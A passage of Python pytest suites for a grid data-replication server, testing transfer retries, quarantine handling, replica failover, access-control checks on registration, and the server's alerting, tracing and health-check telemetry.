            assert done.state is TransferState.FAILED
            assert done.attempts == 3
            assert "injected write failure" in done.error
            assert len(retries) == 2          # attempts 1 and 2 retried
        finally:
            engine.stop()

    def test_quarantined_destination_is_never_overwritten(self, tmp_path):
        """Re-replicating onto a quarantined copy fails instead of clobbering."""

        catalogue = ReplicaCatalogue(Database())
        data = b"good"
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b", {"/lfn/f": b"evidence"})
        register_file(catalogue, se_a, "/lfn/f", data)
        catalogue.register("/lfn/f", "se-b", "/lfn/f", size=len(data),
                           checksum=hashlib.md5(data).hexdigest())
        catalogue.quarantine("/lfn/f", "se-b", error="operator flagged")
        engine = make_engine(catalogue, [se_a, se_b], max_attempts=2)
        try:
            done = engine.wait(engine.submit("/lfn/f", "se-b").transfer_id,
                               timeout=10.0)
            assert done.state is TransferState.FAILED
            assert "quarantined" in done.error
            # The quarantined record and its on-disk bytes are untouched.
            assert catalogue.replica_on("/lfn/f", "se-b").state \
                is ReplicaState.QUARANTINED
            assert se_b.read("/lfn/f") == b"evidence"
        finally:
            engine.stop()

    def test_transient_failure_recovers(self, tmp_path):
        catalogue = ReplicaCatalogue(Database())
        se_a = make_se(tmp_path, "se-a")
        (tmp_path / "se-b").mkdir()
        se_b = FlakyWriteSE("se-b", VirtualFileSystem(tmp_path / "se-b"),
                            fail_writes=1)
        register_file(catalogue, se_a, "/lfn/f", b"recoverable")
        engine = make_engine(catalogue, [se_a, se_b], max_attempts=3)
        try:
            done = engine.wait(engine.submit("/lfn/f", "se-b").transfer_id,
                               timeout=10.0)
            assert done.state is TransferState.DONE
            assert done.attempts == 2
            assert se_b.read("/lfn/f") == b"recoverable"
        finally:
            engine.stop()

    def test_priority_orders_the_queue(self, tmp_path):
        catalogue = ReplicaCatalogue(Database())
        bus = MessageBus()
        started: list[int] = []
        bus.subscribe("replica.transfer.started",
                      lambda m: started.append(m.payload["transfer_id"]))
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b")
        register_file(catalogue, se_a, "/lfn/f1", b"1")
        register_file(catalogue, se_a, "/lfn/f2", b"2")
        # Do not start the engine until both requests are queued.
        engine = TransferEngine(catalogue, {"se-a": se_a, "se-b": se_b},
                                workers=1, retry_delay=0.001, bus=bus)
        low = engine.submit("/lfn/f1", "se-b", priority=9)
        high = engine.submit("/lfn/f2", "se-b", priority=1)
        engine.start()
        try:
            engine.wait(low.transfer_id, timeout=10.0)
            engine.wait(high.transfer_id, timeout=10.0)
            assert started.index(high.transfer_id) < started.index(low.transfer_id)
        finally:
            engine.stop()

    def test_foreign_bytes_at_destination_are_never_clobbered(self, tmp_path):
        """A pre-existing unregistered file at the target path is preserved."""

        catalogue = ReplicaCatalogue(Database())
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b", {"/lfn/f": b"someone else's data"})
        register_file(catalogue, se_a, "/lfn/f", b"replica bytes")
        engine = make_engine(catalogue, [se_a, se_b], max_attempts=2)
        try:
            done = engine.wait(engine.submit("/lfn/f", "se-b").transfer_id,
                               timeout=10.0)
            assert done.state is TransferState.FAILED
            assert "refusing to overwrite" in done.error
            assert se_b.read("/lfn/f") == b"someone else's data"
        finally:
            engine.stop()

    def test_identical_bytes_at_destination_are_adopted(self, tmp_path):
        """Matching orphaned bytes become the replica without a copy."""

        catalogue = ReplicaCatalogue(Database())
        data = b"identical bytes"
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b", {"/lfn/f": data})
        register_file(catalogue, se_a, "/lfn/f", data)
        engine = make_engine(catalogue, [se_a, se_b])
        try:
            done = engine.wait(engine.submit("/lfn/f", "se-b").transfer_id,
                               timeout=10.0)
            assert done.state is TransferState.DONE
            assert done.bytes_copied == 0
            assert catalogue.replica_on("/lfn/f", "se-b").state \
                is ReplicaState.ACTIVE
        finally:
            engine.stop()

    def test_cancel_during_retry_backoff_sticks(self, tmp_path):
        catalogue = ReplicaCatalogue(Database())
        se_a = make_se(tmp_path, "se-a")
        (tmp_path / "se-b").mkdir()
        se_b = FlakyWriteSE("se-b", VirtualFileSystem(tmp_path / "se-b"),
                            fail_writes=99)
        register_file(catalogue, se_a, "/lfn/f", b"x")
        engine = make_engine(catalogue, [se_a, se_b], max_attempts=5,
                             retry_delay=0.5)
        try:
            request = engine.submit("/lfn/f", "se-b")
            deadline = time.monotonic() + 5.0
            while request.state is not TransferState.RETRYING:
                assert time.monotonic() < deadline, request.state
                time.sleep(0.005)
            cancelled = engine.cancel(request.transfer_id)
            assert cancelled.state is TransferState.CANCELLED
            # The backoff path must not resurrect it.
            time.sleep(0.02)
            assert engine.wait(request.transfer_id, timeout=5.0).state \
                is TransferState.CANCELLED
        finally:
            engine.stop()

    def test_cancel_queued_transfer(self, tmp_path):
        catalogue = ReplicaCatalogue(Database())
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b")
        register_file(catalogue, se_a, "/lfn/f", b"x")
        engine = TransferEngine(catalogue, {"se-a": se_a, "se-b": se_b},
                                workers=1, retry_delay=0.001)
        request = engine.submit("/lfn/f", "se-b")
        assert engine.cancel(request.transfer_id).state is TransferState.CANCELLED
        engine.start()
        try:
            done = engine.wait(request.transfer_id, timeout=5.0)
            assert done.state is TransferState.CANCELLED
            with pytest.raises(ReplicaNotFoundError):
                catalogue.replica_on("/lfn/f", "se-b")
        finally:
            engine.stop()

    def test_submit_unknown_lfn_or_element_fails_fast(self, tmp_path):
        catalogue = ReplicaCatalogue(Database())
        se_a = make_se(tmp_path, "se-a")
        engine = TransferEngine(catalogue, {"se-a": se_a})
        with pytest.raises(ReplicaNotFoundError):
            engine.submit("/lfn/nope", "se-a")
        register_file(catalogue, se_a, "/lfn/f", b"x")
        with pytest.raises(ReplicaNotFoundError):
            engine.submit("/lfn/f", "se-zz")


# -- broker --------------------------------------------------------------------

class TestBroker:
    def _two_se_setup(self, tmp_path, data=b"broker bytes"):
        catalogue = ReplicaCatalogue(Database())
        se_a = FlakyReadSE("se-a", VirtualFileSystem(
            (tmp_path / "se-a").mkdir() or tmp_path / "se-a"))
        se_b = make_se(tmp_path, "se-b")
        checksum = hashlib.md5(data).hexdigest()
        for se in (se_a, se_b):
            se.vfs.write("/lfn/f", data)
            catalogue.register("/lfn/f", se.name, "/lfn/f", size=len(data),
                               checksum=checksum)
        return catalogue, se_a, se_b, data

    def test_prefers_local_element(self, tmp_path):
        catalogue, se_a, se_b, data = self._two_se_setup(tmp_path)
        broker = ReplicaBroker(catalogue, {"se-a": se_a, "se-b": se_b},
                               local_se="se-b")
        replica, element = broker.resolve("/lfn/f")
        assert element.name == "se-b"

    def test_least_loaded_wins_when_no_local(self, tmp_path):
        catalogue, se_a, se_b, data = self._two_se_setup(tmp_path)
        broker = ReplicaBroker(catalogue, {"se-a": se_a, "se-b": se_b})
        with se_a.transfer_slot():
            _, element = broker.resolve("/lfn/f")
            assert element.name == "se-b"

    def test_read_fails_over_on_error(self, tmp_path):
        catalogue, se_a, se_b, data = self._two_se_setup(tmp_path)
        se_a.fail_reads = 1
        broker = ReplicaBroker(catalogue, {"se-a": se_a, "se-b": se_b},
                               local_se="se-a")
        assert broker.read("/lfn/f") == data
        assert broker.failovers == 1
        # The failure is recorded against the replica for operators.
        assert "injected read failure" in \
            catalogue.replica_on("/lfn/f", "se-a").last_error

    def test_unavailable_element_is_skipped(self, tmp_path):
        catalogue, se_a, se_b, data = self._two_se_setup(tmp_path)
        se_a.available = False
        broker = ReplicaBroker(catalogue, {"se-a": se_a, "se-b": se_b},
                               local_se="se-a")
        replica, element = broker.resolve("/lfn/f")
        assert element.name == "se-b"
        assert broker.read("/lfn/f") == data

    def test_read_verified_quarantines_corrupt_replica(self, tmp_path):
        catalogue, se_a, se_b, data = self._two_se_setup(tmp_path)
        se_a.vfs.write("/lfn/f", b"rotten " + data)
        broker = ReplicaBroker(catalogue, {"se-a": se_a, "se-b": se_b},
                               local_se="se-a")
        assert broker.read_verified("/lfn/f") == data
        assert catalogue.replica_on("/lfn/f", "se-a").state \
            is ReplicaState.QUARANTINED
        # The corrupt copy is never consulted again.
        assert broker.read("/lfn/f") == data
        assert [e.name for _, e in broker.candidates("/lfn/f")] == ["se-b"]

    def test_no_proxy_restricts_to_directly_reachable(self, tmp_path):
        """``proxy=False`` never selects remote elements (single-hop guard)."""

        catalogue, se_a, se_b, data = self._two_se_setup(tmp_path)
        se_a.is_remote = True      # stand-in for a RemoteStorageElement
        broker = ReplicaBroker(catalogue, {"se-a": se_a, "se-b": se_b},
                               local_se="se-a")
        assert [e.name for _, e in
                broker.candidates("/lfn/f", proxy=False)] == ["se-b"]
        assert broker.read("/lfn/f", proxy=False) == data
        # Default behaviour still proxies (the local remote ranks first).
        assert broker.resolve("/lfn/f")[1].name == "se-a"
        se_b.available = False
        with pytest.raises(ReplicaError):
            broker.resolve("/lfn/f", proxy=False)

    def test_all_replicas_failing_raises(self, tmp_path):
        catalogue, se_a, se_b, data = self._two_se_setup(tmp_path)
        se_a.available = False
        se_b.available = False
        broker = ReplicaBroker(catalogue, {"se-a": se_a, "se-b": se_b})
        with pytest.raises(ReplicaError):
            broker.read("/lfn/f")


# -- storage elements ----------------------------------------------------------

class TestStorageElements:
    def test_unavailable_element_refuses_io(self, tmp_path):
        se = make_se(tmp_path, "se-a", {"/f": b"x"})
        se.available = False
        with pytest.raises(StorageElementUnavailableError):
            se.read("/f")
        with pytest.raises(StorageElementUnavailableError):
            se.write_stream("/g", [b"y"])

    def test_write_stream_digest_matches_content(self, tmp_path):
        se = make_se(tmp_path, "se-a")
        data = b"0123456789" * 1000
        size, digest = se.write_stream("/f", iter([data[:5000], data[5000:]]))
        assert size == len(data)
        assert digest == hashlib.md5(data).hexdigest()
        assert se.checksum("/f") == digest

    def test_mid_stream_disable_aborts_reader(self, tmp_path):
        """A transfer source dying mid-stream raises instead of truncating."""

        se = make_se(tmp_path, "se-a", {"/f": b"a" * (1 << 16)})
        reader = se.open_reader("/f", chunk_size=1024)
        next(reader)
        se.available = False
        with pytest.raises(StorageElementUnavailableError):
            list(reader)


# -- the replica.* RPC service -------------------------------------------------

@pytest.fixture()
def replica_server(ca, host_credential, tmp_path):
    """A server with a second VFS storage element ("se-b") attached."""

    srv = build_server(ca, host_credential,
                       replica_retry_delay=0.001)
    service = srv.services["replica"]
    service.add_storage_element(make_se(tmp_path, "se-b"))
    yield srv
    srv.close()


@pytest.fixture()
def replica_client(replica_server, alice_credential):
    cl = ClarensClient.for_loopback(replica_server.loopback())
    cl.login_with_credential(alice_credential)
    yield cl
    cl.close()


@pytest.fixture()
def replica_admin(replica_server, admin_credential):
    cl = ClarensClient.for_loopback(replica_server.loopback())
    cl.login_with_credential(admin_credential)
    yield cl
    cl.close()


def wait_transfer(client, transfer_id, *, timeout=10.0) -> dict:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        record = client.call("replica.status", transfer_id)
        if TransferState(record["state"]).terminal:
            return record
        time.sleep(0.01)
    raise AssertionError(f"transfer {transfer_id} did not finish: {record}")


class TestReplicaService:
    DATA = b"detector events " * 512
    LFN = "/lfn/cms/run1/events.dat"

    def _register_on_local(self, client) -> dict:
        client.call("file.write", "/run1/events.dat", self.DATA, False)
        return client.call("replica.register", self.LFN, "local",
                           "/run1/events.dat")

    def test_register_computes_size_and_checksum(self, replica_client):
        entry = self._register_on_local(replica_client)
        assert entry["size"] == len(self.DATA)
        assert entry["checksum"] == hashlib.md5(self.DATA).hexdigest()
        assert set(entry["replicas"]) == {"local"}

    def test_end_to_end_replicate_disable_failover(self, replica_server,
                                                   replica_client,
                                                   replica_admin, tmp_path):
        """The acceptance scenario: register on A, copy to B, kill A, read."""

        self._register_on_local(replica_client)
        transfer = replica_client.call("replica.replicate", self.LFN, "se-b")
        record = wait_transfer(replica_client, transfer["transfer_id"])
        assert record["state"] == "done"
        assert record["bytes_copied"] == len(self.DATA)

        entry = replica_client.call("replica.locate", self.LFN)
        assert set(entry["replicas"]) == {"local", "se-b"}
        # The local element ranks first while it is alive...
        assert entry["best"][0]["storage_element"] == "local"

        replica_admin.call("replica.set_available", "local", False)
        entry = replica_client.call("replica.locate", self.LFN)
        assert [b["storage_element"] for b in entry["best"]] == ["se-b"]

        # ...and the checksum-verified download now rides the se-b replica.
        data = download_lfn(replica_client, self.LFN)
        assert data == self.DATA
        assert replica_server.replica_broker.stats()["reads"] > 0

    def test_download_lfn_http_zero_copy_path(self, replica_client):
        self._register_on_local(replica_client)
        data = download_lfn_http(replica_client, self.LFN)
        assert data == self.DATA

    def test_download_lfn_http_after_local_death(self, replica_client,
                                                 replica_admin):
        self._register_on_local(replica_client)
        transfer = replica_client.call("replica.replicate", self.LFN, "se-b")
        wait_transfer(replica_client, transfer["transfer_id"])
        replica_admin.call("replica.set_available", "local", False)
        assert download_lfn_http(replica_client, self.LFN) == self.DATA

    def test_replica_read_rpc_with_offset(self, replica_client):
        self._register_on_local(replica_client)
        chunk = replica_client.call("replica.read", self.LFN, 16, 15)
        assert chunk == self.DATA[16:31]

    def test_drop_with_stale_version_conflicts(self, replica_client):
        entry = self._register_on_local(replica_client)
        stale = entry["version"]
        replica_client.call("replica.register", self.LFN, "local",
                            "/run1/events.dat")      # bumps the version
        with pytest.raises(Fault):
            replica_client.call("replica.drop", self.LFN, "local", stale)
        assert replica_client.call(
            "replica.drop", self.LFN, "local",
            replica_client.call("replica.stat", self.LFN)["version"]) is True

    def test_verify_quarantines_rotten_replica(self, replica_server,
                                               replica_client):
        self._register_on_local(replica_client)
        replica_client.call("file.write", "/run1/events.dat", b"rot", False)
        entry = replica_client.call("replica.verify", self.LFN, "local")
        assert entry["replicas"]["local"]["state"] == "quarantined"

    def test_masstore_is_a_storage_element(self, replica_server,
                                           replica_client, replica_admin):
        """An SRM-staged mass-store file replicates onto ordinary disk."""

        payload = b"tape resident bytes"
        replica_admin.call("srm.archive", "/store/raw.dat", payload, True)
        replica_client.call("replica.register", "/lfn/store/raw.dat",
                            "masstore", "/store/raw.dat")
        # Evict the disk copy so the transfer must stage from tape.
        replica_admin.call("srm.evict", "/store/raw.dat")
        transfer = replica_client.call("replica.replicate",
                                       "/lfn/store/raw.dat", "se-b")
        record = wait_transfer(replica_client, transfer["transfer_id"])
        assert record["state"] == "done"
        assert replica_client.call("replica.read", "/lfn/store/raw.dat",
                                   0, -1) == payload

    def test_set_available_requires_admin(self, replica_client):
        with pytest.raises(Fault):
            replica_client.call("replica.set_available", "local", False)

    def test_register_cannot_bypass_file_acls(self, replica_server,
                                              replica_client, replica_admin):
        """Binding an LFN to a read-protected path is refused.

        Without the pfn read check, registering /lfn/mine -> /secret/x and
        reading the LFN would leak bytes the file ACLs deny.
        """

        from repro.acl.model import ACL, FileACL
        from tests.conftest import ADMIN_DN

        replica_admin.call("file.write", "/secret/x.dat", b"classified", False)
        replica_server.acl.set_file_acl(
            "/secret", FileACL(read=ACL(dns_allowed=[ADMIN_DN]),
                               write=ACL(dns_allowed=[ADMIN_DN])))
        with pytest.raises(Fault):
            replica_client.call("replica.register", "/lfn/alice/steal",
                                "local", "/secret/x.dat")
        # The admin, who can read the path, may register it.
        entry = replica_admin.call("replica.register", "/lfn/prod/x",
                                   "local", "/secret/x.dat")
        assert entry["size"] == len(b"classified")

    def test_transfer_events_reach_monitoring_bus(self, replica_server,
                                                  replica_client):
        topics: list[str] = []
        replica_server.message_bus.subscribe("replica.transfer",
                                             lambda m: topics.append(m.topic))
        self._register_on_local(replica_client)
        transfer = replica_client.call("replica.replicate", self.LFN, "se-b")
        wait_transfer(replica_client, transfer["transfer_id"])
        assert "replica.transfer.queued" in topics
        assert "replica.transfer.done" in topics

    def test_stats_snapshot(self, replica_client):
        self._register_on_local(replica_client)
        stats = replica_client.call("replica.stats")
        assert stats["catalogue"]["lfns"] == 1
        assert stats["engine"]["workers"] >= 1

    def test_checksum_failure_surfaces_in_download(self, replica_server,
                                                   replica_client):
        """With only one (corrupt) replica, the verified download fails."""

        self._register_on_local(replica_client)
        replica_client.call("file.write", "/run1/events.dat",
                            b"silent corruption", False)
        with pytest.raises((ClientError, Fault)):
            download_lfn(replica_client, self.LFN)


class TestDropReplicaRPC:
    """The operator flow that reclaims a quarantined element slot."""

    DATA = b"governed bytes " * 256
    LFN = "/lfn/cms/gov/events.dat"

    def _two_copies(self, client) -> None:
        client.call("file.write", "/gov/events.dat", self.DATA, False)
        client.call("replica.register", self.LFN, "local", "/gov/events.dat")
        transfer = client.call("replica.replicate", self.LFN, "se-b")
        wait_transfer(client, transfer["transfer_id"])

    def test_drop_replica_requires_admin(self, replica_client):
        self._two_copies(replica_client)
        with pytest.raises(Fault) as excinfo:
            replica_client.call("replica.drop_replica", self.LFN, "se-b")
        assert excinfo.value.code == FaultCode.ACCESS_DENIED

    def test_drop_replica_refuses_healthy_copies(self, replica_client,
                                                 replica_admin):
        self._two_copies(replica_client)
        with pytest.raises(Fault) as excinfo:
            replica_admin.call("replica.drop_replica", self.LFN, "se-b")
        assert "not quarantined" in excinfo.value.message
        # Nothing was removed.
        entry = replica_client.call("replica.stat", self.LFN)
        assert set(entry["replicas"]) == {"local", "se-b"}

    def test_drop_replica_publishes_and_frees_the_slot(self, replica_server,
                                                       replica_client,
                                                       replica_admin):
        """Dropping the quarantined copy lets the policy engine heal onto
        the freed element again (satellite acceptance)."""

        self._two_copies(replica_client)
        # Take the mass store out of play so the freed se-b slot is the only
        # possible heal destination.
        replica_admin.call("replica.set_available", "masstore", False)
        replica_admin.call("replica.set_policy", "/lfn/cms/gov", 2)
        dropped: list[dict] = []
        replica_server.message_bus.subscribe(
            "replica.dropped", lambda m: dropped.append(m.payload))

        service = replica_server.services["replica"]
        service.catalogue.quarantine(self.LFN, "se-b", error="rot detected")
        # Quarantined slot on se-b blocks healing: local is the only healthy
        # copy and no fresh element exists.
        decision = replica_server.replica_policy.evaluate(self.LFN)
        assert decision["action"] == "unsatisfiable"

        result = replica_admin.call("replica.drop_replica", self.LFN, "se-b")
        assert result["remaining_replicas"] == 1
        assert dropped and dropped[0]["storage_element"] == "se-b"
        assert dropped[0]["dropped_by"]

        # The replica.dropped event re-evaluates the LFN; the freed element
        # is a heal target again and the file returns to 2 healthy copies.
        deadline = time.monotonic() + 10.0
        while time.monotonic() < deadline:
            states = {se: r["state"] for se, r in
                      replica_client.call("replica.stat",
                                          self.LFN)["replicas"].items()}
            if states == {"local": "active", "se-b": "active"}:
                break
            time.sleep(0.01)
        else:
            raise AssertionError(f"heal onto freed slot never landed: {states}")

    def test_drop_replica_unknown_replica_is_not_found(self, replica_admin):
        with pytest.raises(Fault) as excinfo:
            replica_admin.call("replica.drop_replica", "/lfn/none", "se-b")
        assert excinfo.value.code == FaultCode.NOT_FOUND
