"""The fabric-wide observability plane (alerts, health, collector, federation).

Unit coverage of the alert-rule grammar and engine state machine, the span
tree assembler, and the exposition merger; server-level coverage of the
health probes and the ``/healthz`` flip; and mesh-level coverage over real
sockets of the issue's acceptance criteria — one assembled trace tree for a
quarantine→heal chain retrievable from either server, a ``server``-labelled
federated scrape degrading to partial on a dead peer, an alert firing
exactly once fabric-wide, and torn-free concurrent ``/metrics`` scrapes
under hot dispatch.
"""

from __future__ import annotations

import json
import socket
import threading
import time

import pytest

from repro.client.client import ClarensClient
from repro.core.config import ConfigError, ServerConfig
from repro.core.server import ClarensServer
from repro.httpd.message import HTTPRequest
from repro.monitoring.bus import MessageBus
from repro.pki.authority import CertificateAuthority
from repro.protocols.errors import Fault
from repro.telemetry.alerts import AlertEngine, AlertRule, AlertRuleError
from repro.telemetry.collector import assemble_tree, fanout_peers
from repro.telemetry.federation import merge_expositions
from repro.telemetry.health import STATUS_CRITICAL, STATUS_DEGRADED, STATUS_OK
from repro.telemetry.metrics import MetricsRegistry

OPS_DN = "/O=clarens.test/OU=People/CN=Ada Admin"


@pytest.fixture(scope="module")
def plane_ca():
    return CertificateAuthority("/O=clarens.test/CN=Observability CA",
                                key_bits=512)


@pytest.fixture(scope="module")
def admin_credential(plane_ca):
    return plane_ca.issue_user("Ada Admin")


@pytest.fixture(scope="module")
def user_credential(plane_ca):
    return plane_ca.issue_user("Norma User")


def build_site(ca, name, **overrides):
    host = ca.issue_host(f"{name}.clarens.test")
    overrides.setdefault("telemetry_enabled", True)
    config = ServerConfig(server_name=name, admins=[OPS_DN],
                          host_dn=str(host.certificate.subject), **overrides)
    return ClarensServer(config, credential=host, trust_store=ca.trust_store())


def login(server, credential):
    client = ClarensClient.for_loopback(server.loopback())
    client.login_with_credential(credential)
    return client


# ---------------------------------------------------------------------------
# Alert rules: grammar and engine state machine
# ---------------------------------------------------------------------------

class TestAlertRuleGrammar:
    def test_full_spec_parses(self):
        rule = AlertRule.parse(
            'fault-storm: counter_rate(clarens_requests_total'
            '{status=fault, proto="xml"}) >= 5.5 for 10s severity=warning')
        assert rule.name == "fault-storm"
        assert rule.kind == "counter_rate"
        assert rule.metric == "clarens_requests_total"
        assert rule.labels == {"status": "fault", "proto": "xml"}
        assert rule.op == ">=" and rule.threshold == 5.5
        assert rule.for_seconds == 10.0 and rule.severity == "warning"

    def test_minimal_spec_defaults(self):
        rule = AlertRule.parse("deep: gauge(clarens_queue) > 100")
        assert rule.labels == {} and rule.for_seconds == 0.0
        assert rule.severity == "critical"

    def test_scientific_threshold(self):
        assert AlertRule.parse("big: counter(clarens_x_total) > 1e12"
                               ).threshold == 1e12

    @pytest.mark.parametrize("spec", [
        "",
        "no-colon gauge(clarens_x) > 1",
        "bad-kind: histogram(clarens_x) > 1",
        "bad-op: gauge(clarens_x) == 1",
        "no-threshold: gauge(clarens_x) >",
        "bad-severity: gauge(clarens_x) > 1 severity=panic",
        "bad-label: gauge(clarens_x{nokey}) > 1",
    ])
    def test_bad_specs_raise(self, spec):
        with pytest.raises(AlertRuleError):
            AlertRule.parse(spec)

    def test_bad_rule_rejected_at_config_time(self):
        with pytest.raises(ConfigError):
            ServerConfig(telemetry_alert_rules=["nonsense"])

    def test_rules_survive_ini_round_trip(self, tmp_path):
        spec = "deep: gauge(clarens_replica_transfer_queue) > 64 for 5s"
        config = ServerConfig(telemetry_alert_rules=[spec],
                              telemetry_alert_interval=2.5)
        path = tmp_path / "server.ini"
        config.to_ini(path)
        loaded = ServerConfig.from_ini(path)
        assert loaded.telemetry_alert_rules == [spec]
        assert loaded.telemetry_alert_interval == 2.5


class TestAlertEngine:
    def make_engine(self, rules, registry=None):
        bus = MessageBus()
        events = []
        bus.subscribe("telemetry.alert", lambda m: events.append(
            (m.topic, dict(m.payload))))
        clock = {"now": 100.0}
        engine = AlertEngine(registry or MetricsRegistry(), bus,
                             source="unit",
                             rules=[AlertRule.parse(r) for r in rules],
                             clock=lambda: clock["now"])
        return engine, events, clock

    def test_gauge_rule_fires_once_and_resolves(self):
        registry = MetricsRegistry()
        depth = registry.gauge("clarens_depth", labels=("q",))
        engine, events, clock = self.make_engine(
            ["deep: gauge(clarens_depth) > 10 for 5s"], registry)

        depth.set(50.0, q="a")
        engine.evaluate()                    # breach starts: pending
        assert events == []
        clock["now"] += 4.0
        engine.evaluate()                    # still pending
        assert events == []
        clock["now"] += 2.0
        engine.evaluate()                    # 6s > 5s: fires
        clock["now"] += 1.0
        engine.evaluate()                    # still firing: no re-publish
        assert [t for t, _ in events] == ["telemetry.alert.fired"]
        assert events[0][1]["rule"] == "deep"
        assert events[0][1]["server"] == "unit"
        assert engine.firing()[0]["name"] == "deep"

        depth.set(0.0, q="a")
        engine.evaluate()
        assert [t for t, _ in events] == ["telemetry.alert.fired",
                                          "telemetry.alert.resolved"]
        assert engine.firing() == []

    def test_pending_breach_resets_when_condition_clears(self):
        registry = MetricsRegistry()
        depth = registry.gauge("clarens_depth")
        engine, events, clock = self.make_engine(
            ["deep: gauge(clarens_depth) > 10 for 5s"], registry)
        depth.set(50.0)
        engine.evaluate()
        clock["now"] += 3.0
        depth.set(0.0)
        engine.evaluate()                    # breach cleared before 5s
        clock["now"] += 3.0
        depth.set(50.0)
        engine.evaluate()                    # new breach, window restarts
        clock["now"] += 4.0
        engine.evaluate()
        assert events == []                  # 4s < 5s: never fired

    def test_counter_rate_first_sample_never_fires(self):
        registry = MetricsRegistry()
        hits = registry.counter("clarens_hits_total")
        engine, events, clock = self.make_engine(
            ["storm: counter_rate(clarens_hits_total) > 5"], registry)
        hits.inc(1000.0)
        engine.evaluate()                    # no window yet
        assert events == []
        clock["now"] += 10.0
        hits.inc(1000.0)                     # 100/s over the window
        engine.evaluate()
        assert [t for t, _ in events] == ["telemetry.alert.fired"]
        clock["now"] += 10.0                 # flat: rate 0, resolves
        engine.evaluate()
        assert events[-1][0] == "telemetry.alert.resolved"

    def test_label_filter_sums_only_matching_series(self):
        registry = MetricsRegistry()
        counter = registry.counter("clarens_req_total", labels=("status",))
        counter.inc(100.0, status="ok")
        counter.inc(3.0, status="fault")
        rule = AlertRule.parse(
            "faults: counter(clarens_req_total{status=fault}) > 2")
        assert rule.value_from(registry.collect()) == 3.0
        assert AlertRule.parse("all: counter(clarens_req_total) > 0"
                               ).value_from(registry.collect()) == 103.0

    def test_missing_metric_reads_zero(self):
        rule = AlertRule.parse("ghost: gauge(clarens_nope) > 0")
        assert rule.value_from({}) == 0.0
        assert not rule.breached(0.0)


# ---------------------------------------------------------------------------
# Span-tree assembly and exposition merging
# ---------------------------------------------------------------------------

def span(span_id, parent_id="", started=0.0, **extra):
    return dict({"trace_id": "t1", "span_id": span_id,
                 "parent_id": parent_id, "started": started}, **extra)


class TestAssembleTree:
    def test_parent_child_forest_time_ordered(self):
        records = [span("c2", "root", 3.0), span("root", "", 1.0),
                   span("c1", "root", 2.0), span("g1", "c1", 2.5)]
        roots = assemble_tree(records)
        assert [r["span_id"] for r in roots] == ["root"]
        children = roots[0]["children"]
        assert [c["span_id"] for c in children] == ["c1", "c2"]
        assert [g["span_id"] for g in children[0]["children"]] == ["g1"]
        assert roots[0]["missing_parent"] is False

    def test_orphan_is_flagged_not_rerooted(self):
        roots = assemble_tree([span("a", "", 1.0),
                               span("lost", "evicted", 2.0)])
        by_id = {r["span_id"]: r for r in roots}
        assert by_id["lost"]["missing_parent"] is True
        assert by_id["a"]["missing_parent"] is False

    def test_duplicates_from_overlapping_collections_drop(self):
        roots = assemble_tree([span("a", "", 1.0), span("a", "", 1.0),
                               span("b", "a", 2.0), span("b", "a", 2.0)])
        assert len(roots) == 1
        assert len(roots[0]["children"]) == 1


class TestMergeExpositions:
    A = ("# HELP clarens_up Server liveness.\n"
         "# TYPE clarens_up gauge\n"
         "clarens_up 1\n"
         "# TYPE clarens_lat histogram\n"
         'clarens_lat_bucket{le="1"} 3\n'
         'clarens_lat_bucket{le="+Inf"} 4\n'
         "clarens_lat_sum 2.5\n"
         "clarens_lat_count 4\n")
    B = ("# TYPE clarens_up gauge\n"
         "clarens_up 0\n")

    def test_server_label_added_and_families_merged(self):
        merged = merge_expositions([("a", self.A), ("b", self.B)])
        assert 'clarens_up{server="a"} 1' in merged
        assert 'clarens_up{server="b"} 0' in merged
        # One TYPE declaration per family, samples grouped under it.
        assert merged.count("# TYPE clarens_up gauge") == 1
        up_block = merged.split("# TYPE clarens_up gauge")[1]
        assert up_block.splitlines()[1:3] == [
            'clarens_up{server="a"} 1', 'clarens_up{server="b"} 0']

    def test_histogram_suffixes_stay_with_their_family(self):
        merged = merge_expositions([("a", self.A)])
        lat = merged.split("# TYPE clarens_lat histogram")[1]
        assert 'clarens_lat_bucket{server="a",le="1"} 3' in lat
        assert 'clarens_lat_sum{server="a"} 2.5' in lat
        assert 'clarens_lat_count{server="a"} 4' in lat

    def test_existing_labels_keep_their_order_after_server(self):
        text = '# TYPE clarens_x gauge\nclarens_x{k="v"} 7\n'
        merged = merge_expositions([("s1", text)])
        assert 'clarens_x{server="s1",k="v"} 7' in merged


class TestFanout:
    def test_partial_results_and_timeouts(self):
        class Channel:
            def __init__(self, behaviour):
                self.behaviour = behaviour

            def call(self, *a, **k):
                if self.behaviour == "ok":
                    return {"v": 1}
                if self.behaviour == "boom":
                    raise RuntimeError("dead peer")
                time.sleep(5.0)

        outcomes = fanout_peers(
            {"good": Channel("ok"), "bad": Channel("boom"),
             "slow": Channel("hang")},
            lambda ch: ch.call(), timeout=0.3)
        assert outcomes["good"] == (True, {"v": 1})
        assert outcomes["bad"][0] is False
        assert "RuntimeError" in outcomes["bad"][1]
        assert outcomes["slow"][0] is False
        assert "timed out" in outcomes["slow"][1]


# ---------------------------------------------------------------------------
# Health model on one server
# ---------------------------------------------------------------------------

class TestHealthModel:
    def test_probes_and_healthz_ok(self, plane_ca):
        server = build_site(plane_ca, "health-1", cache_enabled=True)
        try:
            health = server.telemetry.health
            probes = {p["probe"]: p for p in health.probes()}
            assert probes["transfer-queue"]["status"] == STATUS_OK
            assert probes["caches"]["status"] == STATUS_OK
            response = server.handle_request(
                HTTPRequest(method="GET", path="/healthz"))
            assert response.status == 200
            body = json.loads(bytes(response.body))
            assert body["server"] == "health-1"
            assert body["status"] == STATUS_OK
        finally:
            server.close()

    def test_threshold_grades_degraded_and_critical(self, plane_ca):
        server = build_site(plane_ca, "health-2")
        try:
            health = server.telemetry.health
            engine = server.services["replica"].engine
            real_stats = engine.stats()

            def fake_stats(queued):
                return dict(real_stats, queued=queued, running=0)

            engine.stats = lambda: fake_stats(100)
            probes = {p["probe"]: p for p in health.probes()}
            assert probes["transfer-queue"]["status"] == STATUS_DEGRADED
            engine.stats = lambda: fake_stats(1000)
            probes = {p["probe"]: p for p in health.probes()}
            assert probes["transfer-queue"]["status"] == STATUS_CRITICAL
            assert health.local_status()[0] == STATUS_CRITICAL
            response = server.handle_request(
